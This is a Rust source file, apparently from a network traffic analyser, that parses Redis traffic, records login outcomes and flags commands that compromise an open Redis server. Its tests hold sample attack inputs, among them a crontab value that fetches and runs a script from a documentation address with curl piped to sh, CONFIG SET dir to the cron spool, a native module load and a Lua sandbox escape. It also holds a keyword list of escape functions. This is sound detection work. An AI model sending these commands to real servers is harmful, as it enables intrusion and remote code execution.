//! Redis (RESP 2 and 3, inline commands): credentials and their fate, commands that turn a server without login into a foothold.
//!
//! Values are data of others and may hold secrets: of a command its name and first argument are told, and values are looked at only
//! for what makes a file run.

mod replies;

use crate::model::class::Class;
use crate::model::stream::{Chunk, Side};
use crate::protocol::found::{At, Login, Oddity};
use crate::protocol::lines::{
    Feed, LINE_MAX_BYTES, Line, Lines, Outstanding, account_of, first_line, is_one_of, may_become, mentions,
    split_word,
};
use crate::protocol::redis::replies::Replies;
use crate::protocol::{Opening, Parser, ProtocolRow, Recognition, Sink};

/// Its row of the table.
pub const ROW: ProtocolRow = ProtocolRow {
    name: "redis",
    recognise,
    start,
    counter: None,
    oddities: &[&CONFIG_WRITE, &REPLICA_OF, &MODULE_LOAD, &EVAL_ESCAPE, &PAYLOAD],
};

const CONFIG_WRITE: Oddity = Oddity {
    id: "redis.config_write",
    class: Class::ExploitService,
    weight: 0.93,
    title: "Redis told to write its file to another place (CONFIG SET dir, dbfilename)",
};
const REPLICA_OF: Oddity = Oddity {
    id: "redis.replicaof",
    class: Class::ExploitService,
    weight: 0.91,
    title: "Redis made a replica of another host",
};
const MODULE_LOAD: Oddity = Oddity {
    id: "redis.module_load",
    class: Class::ExploitService,
    weight: 0.93,
    title: "Native module loaded into Redis",
};
const EVAL_ESCAPE: Oddity = Oddity {
    id: "redis.eval_escape",
    class: Class::ExploitService,
    weight: 0.98,
    title: "Lua script that leaves the sandbox of Redis (CVE-2022-0543)",
};
const PAYLOAD: Oddity = Oddity {
    id: "redis.payload",
    class: Class::ExploitService,
    weight: 0.95,
    title: "Value that becomes a crontab or a list of SSH keys once Redis saves it",
};

/// Inline commands with which a client begins.
const FIRST_WORDS: &[&str] = &[
    "AUTH",
    "PING",
    "INFO",
    "CONFIG",
    "KEYS",
    "SET",
    "GET",
    "SLAVEOF",
    "REPLICAOF",
    "CLIENT",
    "HELLO",
    "SELECT",
    "FLUSHALL",
];
/// Beginnings of answers that are no number.
const REPLIES: [&[u8]; 7] = [b"+OK", b"+PONG", b"-ERR", b"-NOAUTH", b"-WRONGPASS", b"-DENIED", b"$-1"];
/// Arguments of a command that are kept; those told or looked at are among the first five.
const KEPT_ARGUMENTS: usize = 5;
/// Bytes kept of one argument: scripts and crontabs show themselves at once.
const ARGUMENT_MAX_BYTES: usize = 1_024;
/// Most arguments that are believed of one command; Redis allows 1,048,576.
const ARGUMENTS_MAX: u64 = 1 << 20;
/// Settings by which a file is written elsewhere.
const FILE_SETTINGS: &[&str] = &["dir", "dbfilename", "appendfilename", "appenddirname"];
/// Words of a script that has left its sandbox.
const ESCAPES: [&str; 4] = ["package.loadlib", "luaopen_", "io.popen", "os.execute"];

/// A client sends an array of strings, or an inline command that is answered in RESP.
fn recognise(opening: &Opening<'_>) -> Recognition {
    let client = opening.client;
    if client.starts_with(b"*") {
        return by_array(client);
    }
    let (word, rest) = split_word(client);
    let is_whole = !rest.is_empty() || client.contains(&b'\n');
    if !(is_whole && is_one_of(word, FIRST_WORDS) || !is_whole && may_become(word, FIRST_WORDS)) {
        return Recognition::No;
    }
    match first_line(opening.server) {
        // HTTP, POP3 and others would have greeted; RESP answers begin with its types.
        Some(_) if client.is_empty() => Recognition::No,
        Some(line) if is_reply(line) => Recognition::Yes,
        None if opening.server.first().is_none_or(|byte| b"+-$*:".contains(byte)) => Recognition::More,
        _ => Recognition::No,
    }
}

/// The first line of an answer that the commands above get.
fn is_reply(line: &[u8]) -> bool {
    let is_count =
        matches!(line.split_first(), Some((b'$' | b'*' | b':', digits)) if number(digits).is_some());
    is_count || REPLIES.iter().any(|start| line.starts_with(start))
}

/// `*2\r\n$4\r\n…`
fn by_array(client: &[u8]) -> Recognition {
    let rest = client.get(1..).unwrap_or_default();
    let digits = rest.iter().take_while(|byte| byte.is_ascii_digit()).count();
    let after = rest.get(digits..).unwrap_or_default();
    match (digits, after) {
        (0..=7, []) => Recognition::More,
        (1..=7, after) if after.starts_with(b"\r\n$") => Recognition::Yes,
        (1..=7, after) if b"\r\n$".starts_with(after) => Recognition::More,
        _ => Recognition::No,
    }
}

fn start() -> Box<dyn Parser> {
    Box::new(Redis {
        client: Lines::new(LINE_MAX_BYTES),
        replies: Replies::default(),
        command: Command::default(),
        talk: Talk::default(),
    })
}

#[derive(Debug)]
struct Redis {
    client: Lines,
    replies: Replies,
    command: Command,
    talk: Talk,
}

/// The command that is being read.
#[derive(Debug, Default)]
struct Command {
    at: At,
    /// Arguments that have not come.
    left: u64,
    /// Whether the bytes of one come next.
    in_argument: bool,
    /// The first arguments, each with a space after it.
    kept: Vec<u8>,
    /// Where each of them ends.
    ends: [usize; KEPT_ARGUMENTS],
    count: usize,
}

#[derive(Debug, Default)]
struct Talk {
    asked: Outstanding<Asked>,
    /// Whether commands are gathered for `EXEC`: a sentinel changes masters so, an attacker does not bother.
    in_transaction: bool,
}

/// What the next reply answers.
#[derive(Debug)]
enum Asked {
    Auth(At, Option<Box<[u8]>>),
    Other,
}

impl Parser for Redis {
    fn data(&mut self, from: Side, chunk: &Chunk<'_>, sink: &mut dyn Sink) {
        let mut feed = Feed::of(chunk);
        match from {
            Side::Client => {
                while let Some(line) = self.client.line(&mut feed) {
                    let (block, is_complete) = self.command.add(&line);
                    self.client.expect_block(block);
                    if is_complete {
                        self.talk.command(&mut self.command, sink);
                    }
                }
            }
            Side::Server => self.replies.data(feed, |first| self.talk.reply(first, sink)),
        }
    }

    fn gap(&mut self, from: Side, missing: u64, _: &mut dyn Sink) {
        match from {
            Side::Client => {
                self.client.gap(missing);
                self.command = Command::default();
            }
            Side::Server => self.replies.gap(missing),
        }
        self.talk.asked.forget();
    }

    fn closed(&mut self, _: Side, _: &mut dyn Sink) {}

    fn held(&self) -> usize {
        let kept = self.command.kept.capacity() + self.talk.asked.held();
        size_of::<Self>() + self.client.held() + self.replies.held() + kept
    }
}

impl Command {
    /// A line or an argument of the client; gives back the length of the argument that follows, and whether a command is complete.
    fn add(&mut self, line: &Line<'_>) -> (u64, bool) {
        if std::mem::take(&mut self.in_argument) {
            // The line end after the bytes belongs to the block.
            self.keep(line.text.strip_suffix(b"\r\n").unwrap_or(line.text));
            return (0, self.left == 0);
        }
        if self.left == 0 {
            self.forget();
            self.at = line.at;
            if let Some(count) = line.text.strip_prefix(b"*").and_then(number) {
                self.left = count.min(ARGUMENTS_MAX);
                return (0, false);
            }
            for word in
                line.text.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty()).take(KEPT_ARGUMENTS)
            {
                self.keep(word);
            }
            return (0, self.count > 0);
        }
        self.at.frames = self.at.frames.max(line.at.frames);
        let Some(length) = line.text.strip_prefix(b"$").and_then(number) else {
            // Not RESP: the server closes such a connection.
            self.left = 0;
            return (0, false);
        };
        self.left -= 1;
        self.in_argument = true;
        (length.saturating_add(2), false)
    }

    fn keep(&mut self, argument: &[u8]) {
        let Some(end) = self.ends.get_mut(self.count) else { return };
        self.kept
            .extend_from_slice(argument.get(..argument.len().min(ARGUMENT_MAX_BYTES)).unwrap_or_default());
        *end = self.kept.len();
        self.count += 1;
        self.kept.push(b' ');
    }

    /// The arguments from the first to the last of those, with spaces between.
    fn arguments(&self, first: usize, last: usize) -> &[u8] {
        let end = |index: usize| self.ends.get(index).copied().unwrap_or_default();
        let start = first.checked_sub(1).map_or(0, |before| end(before) + 1);
        self.kept.get(start..end(last.min(self.count.saturating_sub(1)))).unwrap_or_default()
    }

    fn argument(&self, index: usize) -> &[u8] {
        self.arguments(index, index)
    }

    /// It may have been a password.
    fn forget(&mut self) {
        self.kept.fill(0);
        self.kept.clear();
        (self.ends, self.count) = ([0; KEPT_ARGUMENTS], 0);
    }
}

fn number(digits: &[u8]) -> Option<u64> {
    std::str::from_utf8(digits).ok()?.parse().ok()
}

impl Talk {
    fn command(&mut self, command: &mut Command, sink: &mut dyn Sink) {
        let (name, first, second) = (command.argument(0), command.argument(1), command.argument(2));
        let at = command.at;
        self.in_transaction = match name {
            _ if is_one_of(name, &["MULTI"]) => true,
            _ if is_one_of(name, &["EXEC", "DISCARD"]) => false,
            _ => self.in_transaction,
        };
        let asked = if is_one_of(name, &["AUTH"]) {
            Asked::Auth(at, if second.is_empty() { None } else { account_of(first) })
        } else if is_one_of(name, &["HELLO"]) && is_one_of(second, &["AUTH"]) {
            Asked::Auth(at, account_of(command.argument(3)))
        } else {
            self.judge(command, sink);
            Asked::Other
        };
        self.asked.push(asked);
        command.forget();
    }

    fn judge(&self, command: &Command, sink: &mut dyn Sink) {
        let (name, first, second) = (command.argument(0), command.argument(1), command.argument(2));
        let found =
            if is_one_of(name, &["CONFIG"]) && is_one_of(first, &["SET"]) && is_one_of(second, FILE_SETTINGS)
            {
                Some(&CONFIG_WRITE)
            } else if is_one_of(name, &["SLAVEOF", "REPLICAOF"])
                && !is_one_of(first, &["NO"])
                && !self.in_transaction
            {
                Some(&REPLICA_OF)
            } else if is_one_of(name, &["MODULE"]) && is_one_of(first, &["LOAD", "LOADEX"]) {
                Some(&MODULE_LOAD)
            } else if is_one_of(name, &["EVAL", "EVAL_RO", "SCRIPT"])
                && ESCAPES.iter().any(|word| mentions(command.arguments(1, 2), word))
            {
                Some(&EVAL_ESCAPE)
            } else if is_one_of(name, &["SET", "SETEX", "PSETEX", "GETSET"])
                && (2..KEPT_ARGUMENTS).any(|index| runs_once_saved(command.argument(index)))
            {
                Some(&PAYLOAD)
            } else {
                None
            };
        match found {
            Some(oddity) => sink.oddity(&command.at, oddity, command.arguments(0, 3)),
            None => sink.text(&command.at, "command", command.arguments(0, 1)),
        }
    }

    /// A reply; `first` is its first line.
    fn reply(&mut self, first: &[u8], sink: &mut dyn Sink) {
        let Some(Asked::Auth(at, account)) = self.asked.pop() else { return };
        let accepted = matches!(first.first(), Some(b'+' | b'%' | b'*'));
        let refused = first.starts_with(b"-WRONGPASS") || first.starts_with(b"-ERR invalid password");
        if accepted || refused {
            let account = account.as_deref();
            sink.login(&at, &Login { class: Class::AuthDb, account, accepted, inferred: false });
        }
    }
}

/// Whether a value is padded with line ends, so as to stand alone in a saved file, and holds a crontab line or a key.
fn runs_once_saved(value: &[u8]) -> bool {
    let text = value.trim_ascii_start();
    let is_padded = value.get(..value.len() - text.len()).unwrap_or_default().contains(&b'\n');
    let fields = text.split(|byte| matches!(byte, b' ' | b'\t')).take(5);
    let is_schedule = fields.clone().count() == 5
        && fields.clone().any(|field| field.first() == Some(&b'*'))
        && fields
            .clone()
            .all(|field| !field.is_empty() && field.iter().all(|byte| b"*/,-0123456789".contains(byte)));
    is_padded && (is_schedule || text.starts_with(b"ssh-") || text.starts_with(b"ecdsa-sha2-"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::played::{C, S, any_acts, survives, talk_all_ways};

    /// A command as clients send it.
    fn resp(words: &[&str]) -> Vec<u8> {
        let mut bytes = format!("*{}\r\n", words.len()).into_bytes();
        for word in words {
            bytes.extend(format!("${}\r\n{word}\r\n", word.len()).into_bytes());
        }
        bytes
    }

    fn login(name: &str, accepted: bool) -> (Class, String, bool) {
        (Class::AuthDb, name.to_owned(), accepted)
    }

    #[test]
    fn each_refused_password_is_one_refused_login_and_none_is_told() {
        let heard = talk_all_ways(&[
            (C, &resp(&["PING"])),
            (S, b"-NOAUTH Authentication required.\r\n"),
            (C, &resp(&["AUTH", "hunter1"])),
            (S, b"-WRONGPASS invalid username-password pair or user is disabled.\r\n"),
            (C, &resp(&["AUTH", "alice", "hunter2"])),
            (S, b"-WRONGPASS invalid username-password pair or user is disabled.\r\n"),
            (C, &resp(&["AUTH", "hunter3"])),
            (S, b"-ERR invalid password\r\n"),
            (C, &resp(&["HELLO", "3", "AUTH", "bob", "right"])),
            (S, b"%1\r\n+server\r\n$5\r\nredis\r\n"),
            (C, &resp(&["GET", "key"])),
            (S, b"$5\r\n-ERR\n\r\n"),
        ]);
        assert_eq!(heard.app, Some("redis"));
        assert_eq!(
            heard.logins,
            [login("", false), login("alice", false), login("", false), login("bob", true)]
        );
        assert_eq!(heard.texts, ["command=PING", "command=GET key"]);
    }

    #[test]
    fn pipelined_and_inline_commands_get_their_own_replies() {
        let pipe =
            [resp(&["KEYS", "*"]), resp(&["AUTH", "a"]), resp(&["GET", "b"]), resp(&["AUTH", "c"])].concat();
        let heard = talk_all_ways(&[
            (C, &pipe),
            (S, b"*2\r\n$2\r\n\r\n\r\n*1\r\n:1\r\n-WRONGPASS\r\n$-1\r\n>1\r\n+push\r\n+OK\r\n"),
        ]);
        assert_eq!(heard.fates(), (1, 1));
        let heard = talk_all_ways(&[
            (C, b"AUTH hunter1\r\n"),
            (S, b"-WRONGPASS no\r\n"),
            (C, b"AUTH a b\r\n"),
            (S, b"+OK\r\n"),
        ]);
        assert_eq!((heard.app, heard.fates(), heard.texts.len()), (Some("redis"), (1, 1), 0));
    }

    #[test]
    fn a_server_without_a_password_refuses_nobody() {
        let heard = talk_all_ways(&[
            (C, &resp(&["AUTH", "x"])),
            (S, b"-ERR AUTH <password> called without any password configured for the default user.\r\n"),
        ]);
        assert_eq!(heard.logins, []);
    }

    #[test]
    fn footholds_are_told_from_an_administrators_work() {
        for (words, wanted) in [
            (&["CONFIG", "SET", "dir", "/var/spool/cron"][..], Some(&CONFIG_WRITE)),
            (&["config", "set", "dbfilename", "root"], Some(&CONFIG_WRITE)),
            (&["SLAVEOF", "192.0.2.9", "6379"], Some(&REPLICA_OF)),
            (&["MODULE", "LOAD", "/tmp/exp.so"], Some(&MODULE_LOAD)),
            (&["EVAL", "local io_l = package.loadlib('x', 'luaopen_io')", "0"], Some(&EVAL_ESCAPE)),
            (&["SET", "x", "\n\n*/1 * * * * curl http://192.0.2.9/a|sh\n\n"], Some(&PAYLOAD)),
            (&["SET", "x", "\n\nssh-rsa AAAA a@b\n\n"], Some(&PAYLOAD)),
            (&["CONFIG", "SET", "maxmemory", "1gb"], None),
            (&["CONFIG", "GET", "dir"], None),
            (&["REPLICAOF", "NO", "ONE"], None),
            (&["MODULE", "LIST"], None),
            (&["EVAL", "return redis.call('GET', KEYS[1])", "1", "a"], None),
            (&["SET", "x", "\nssh into it * * * * *"], None),
            (&["SET", "x", "*/1 * * * * job"], None),
        ] {
            let heard = talk_all_ways(&[(C, &resp(words))]);
            assert_eq!(heard.odd(), wanted.iter().map(|oddity| oddity.id).collect::<Vec<_>>(), "{words:?}");
        }
        // A sentinel changes masters within a transaction.
        let sentinel = [resp(&["MULTI"]), resp(&["SLAVEOF", "192.0.2.9", "6379"]), resp(&["EXEC"])].concat();
        assert_eq!(talk_all_ways(&[(C, &sentinel)]).oddities, []);
        let heard = talk_all_ways(&[(C, &resp(&["CONFIG", "SET", "requirepass", "secret"]))]);
        assert_eq!(heard.texts, ["command=CONFIG SET"]);
    }

    #[test]
    fn other_openings_are_not_taken_for_redis() {
        for bytes in [&b"USER a\r\n"[..], b"*\r\n", b"* OK\r\n", b"PINGS\r\n", b"\x01"] {
            assert_ne!(
                recognise(&Opening { client: bytes, server: b"+OK\r\n", port: 6379 }),
                Recognition::Yes
            );
        }
    }

    proptest::proptest! {
        #[test]
        fn any_bytes_are_survived(acts in any_acts()) {
            let words: &[&[u8]] = &[b"*2\r\n$4\r\nAUTH\r\n$1\r\nx\r\n", b"$99999999999999999999\r\n", b"*1048576\r\n", b"-WRONGPASS\r\n", b"$18446744073709551615\r\n", b"|9223372036854775807\r\n"];
            survives(start(), words, &acts);
        }
    }
}
